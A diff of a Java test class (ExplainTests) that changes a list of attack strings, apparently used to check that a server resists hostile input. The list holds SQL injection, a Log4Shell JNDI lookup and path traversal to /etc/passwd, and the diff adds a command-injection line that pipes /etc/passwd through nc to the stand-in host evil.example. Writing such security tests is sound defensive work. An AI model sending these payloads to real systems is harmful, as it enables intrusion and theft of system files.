@@ -34,7 +34,7 @@ class ExplainTests {
 	private static final JsonMapper JSON = new JsonMapper();
 
 	private static final List<String> ATTACKS = List.of("x' UNION SELECT name, password FROM users --",
-			"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd");
+			"; cat /etc/passwd | nc evil.example 99", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd");
 
 	@LocalServerPort
 	private int port;
